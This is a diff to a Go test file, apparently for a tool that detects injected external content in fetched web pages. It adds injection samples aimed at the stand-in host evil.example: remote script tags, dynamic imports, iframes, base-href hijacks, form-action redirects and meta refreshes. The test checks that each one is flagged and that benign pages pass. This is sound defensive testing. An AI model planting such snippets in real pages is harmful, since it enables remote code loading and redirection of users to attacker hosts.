@@ -35,6 +35,23 @@ func TestWhatCounts(t *testing.T) {
 			t.Errorf("%s: differs by %b, %v; want %b, %v", c.name, r.Differ, r.Verdict, c.want, verdict)
 		}
 	}
+	for _, added := range []string{
+		`<script src=//evil.example/x.js></script>`, `<script src="https://evil.example/x.js"/></script>`, `<script>location = "https://evil.example/" + 1</script>`, `<script>import("//cdn.evil.example/x.js")</script>`,
+		`<script src="data:text/javascript,alert(1)"></script>`, `<iframe src=https://evil.example/></iframe>`, `<iframe srcdoc="<script src='https://evil.example/x.js'></script>"></iframe>`, `<embed src=https://evil.example/>`,
+		`<object data=https://evil.example/></object>`, `<base href=https://evil.example/>`, `<link rel="preload stylesheet" href=https://evil.example/x.css>`, `<form action=https://evil.example/></form>`,
+		`<form><button formaction=https://evil.example/></form>`, `<meta http-equiv=Refresh content="0; url='https://evil.example/'">`, `<area href=https://evil.example/>`,
+	} {
+		if r := (Host{}).Compare(page(text), page(added+text)); r.Differ != Sources || r.Verdict != Conflict {
+			t.Errorf("%s: differs by %b, %v", added, r.Differ, r.Verdict)
+		}
+	}
+	for _, alike := range []string{
+		`<script src=/x.js></script>`, `<script src=https://www.a.example/x.js></script>`, `<script>// made for 3 ms by x//y</script>`, `<img src=https://ads7.example/p.gif>`, `<link rel=canonical href=https://b.example/>`, `<meta name=description content="0; url=https://b.example/">`,
+	} {
+		if r := (Host{}).Compare(page(text), page(text+alike)); r.Verdict != Same {
+			t.Errorf("%s: differs by %b, %v", alike, r.Differ, r.Verdict)
+		}
+	}
 	a, b := page(text), page(text)
 	b.Status = 404
 	if r := (Host{}).Compare(a, b); r.Verdict != Conflict || r.Differ != Status {
@@ -72,6 +89,13 @@ func TestLearn(t *testing.T) {
 	}
 	if h != (Host{}) {
 		t.Errorf("a host that became quiet still knows %+v", h)
+	}
+	for _, f := range []*Features{near, a} { // by turns from another host, as behind a balancer
+		f.Sources = []uint32{uint32(f.Exact)}
+	}
+	h.Learn(a, near)
+	if v := h.Compare(a, near).Verdict; v != Dynamic {
+		t.Errorf("sources that were learnt to differ: %v", v)
 	}
 	if n := unsafe.Sizeof(h); n > 8 {
 		t.Errorf("a host takes %d bytes", n)
